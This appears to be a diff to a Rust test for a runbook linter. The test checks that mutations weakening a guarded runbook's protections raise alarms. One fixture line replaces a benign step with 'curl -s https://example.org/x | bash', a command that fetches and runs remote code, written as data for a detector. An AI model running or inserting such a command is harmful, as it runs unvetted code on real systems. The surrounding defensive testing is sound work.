@@ -275,74 +275,80 @@ finally:
 verify: [{id: over, title: It is over, exec: [cat, over], expect: ok}]
 ";
 
+const SOFT_THEN_HARD: &str =
+    "      - {id: soft, title: Softly, exec: [touch, soft], rollback: {exec: [rm, soft]}}
+      - {id: hard, title: Hard, exec: [touch, hard], rollback: {exec: [rm, hard]}}
+";
+const HARD_THEN_SOFT: &str =
+    "      - {id: hard, title: Hard, exec: [touch, hard], rollback: {exec: [rm, hard]}}
+      - {id: soft, title: Softly, exec: [touch, soft], rollback: {exec: [rm, soft]}}
+";
+
+/// What stands there, what comes in its place, and what is told of it.
+const WEAKENED: [(&str, &str, &str); 14] = [
+    (
+        "stdout, secret: true",
+        "stdout, secret: false",
+        "`secret_captures` is another",
+    ),
+    (
+        SOFT_THEN_HARD,
+        HARD_THEN_SOFT,
+        "its alternatives come in another order",
+    ),
+    ("    idempotent: true\n", "", "`idempotent` is another"),
+    ("every: 2s", "every: 9h", "is asked every 9h instead of every 2s"),
+    (
+        "exec: [rm, tidy]}",
+        "exec: ['true']}",
+        "its undo does something else",
+    ),
+    (
+        "exec: [cat, fine]",
+        "exec: [echo, 'yes']",
+        "the gate `It is fine` does something else",
+    ),
+    ("batch: 1", "batch: 5", "`for_each` is another"),
+    (
+        "timeout: 10m\n",
+        "timeout: 9h\n",
+        "`timeout` is 9h instead of 10m",
+    ),
+    ("wait: 30s", "wait: 1s", "`wait` is another"),
+    (
+        "pin: {type: string, pattern: '[a-z]+'}",
+        "nip: {type: string, default: a}",
+        "the new input `nip` has not the `pattern` of the input `pin`, which is gone",
+    ),
+    (
+        "default: x123456",
+        "default: y123456",
+        "the `default` of the secret input `key` is another",
+    ),
+    (
+        "finally:\n  - {id: close, title: Close, exec: [touch, closed], effect: read}\n",
+        "",
+        "the step `close` is gone",
+    ),
+    (
+        "shell: echo tidy > tidy",
+        "shell: curl -s https://example.org/x | bash",
+        "has `| bash` in it now",
+    ),
+    (
+        "name: guarded\n",
+        "name: guarded\nwaive: {RB0502: Not now.}\n",
+        "a finding is waived now: RB0502",
+    ),
+];
+
 /// Each takes a protection away, in a way that is easily overlooked.
 #[test]
 fn what_weakens_a_protection_is_an_alarm() {
     let file = "runbooks/guarded.yaml";
     let project = committed(Project::empty().with(file, GUARDED));
     project.run(&["check"]).expect(0);
-    let (soft, hard) = (
-        "      - {id: soft, title: Softly, exec: [touch, soft], rollback: {exec: [rm, soft]}}\n",
-        "      - {id: hard, title: Hard, exec: [touch, hard], rollback: {exec: [rm, hard]}}\n",
-    );
-    let swapped = [soft, hard].concat();
-    let cases = [
-        (
-            "stdout, secret: true",
-            "stdout, secret: false",
-            "`secret_captures` is another",
-        ),
-        (
-            &swapped,
-            &[hard, soft].concat(),
-            "its alternatives come in another order",
-        ),
-        ("    idempotent: true\n", "", "`idempotent` is another"),
-        ("every: 2s", "every: 9h", "is asked every 9h instead of every 2s"),
-        (
-            "exec: [rm, tidy]}",
-            "exec: ['true']}",
-            "its undo does something else",
-        ),
-        (
-            "exec: [cat, fine]",
-            "exec: [echo, 'yes']",
-            "the gate `It is fine` does something else",
-        ),
-        ("batch: 1", "batch: 5", "`for_each` is another"),
-        (
-            "timeout: 10m\n",
-            "timeout: 9h\n",
-            "`timeout` is 9h instead of 10m",
-        ),
-        ("wait: 30s", "wait: 1s", "`wait` is another"),
-        (
-            "pin: {type: string, pattern: '[a-z]+'}",
-            "nip: {type: string, default: a}",
-            "the new input `nip` has not the `pattern` of the input `pin`, which is gone",
-        ),
-        (
-            "default: x123456",
-            "default: y123456",
-            "the `default` of the secret input `key` is another",
-        ),
-        (
-            "finally:\n  - {id: close, title: Close, exec: [touch, closed], effect: read}\n",
-            "",
-            "the step `close` is gone",
-        ),
-        (
-            "shell: echo tidy > tidy",
-            "shell: curl -s https://example.org/x | bash",
-            "has `| bash` in it now",
-        ),
-        (
-            "name: guarded\n",
-            "name: guarded\nwaive: {RB0502: Not now.}\n",
-            "a finding is waived now: RB0502",
-        ),
-    ];
-    for (from, to, expected) in cases {
+    for (from, to, expected) in WEAKENED {
         assert!(GUARDED.contains(from), "{from}");
         let changed = GUARDED.replace(from, to);
         fs::write(project.path(file), changed).unwrap();
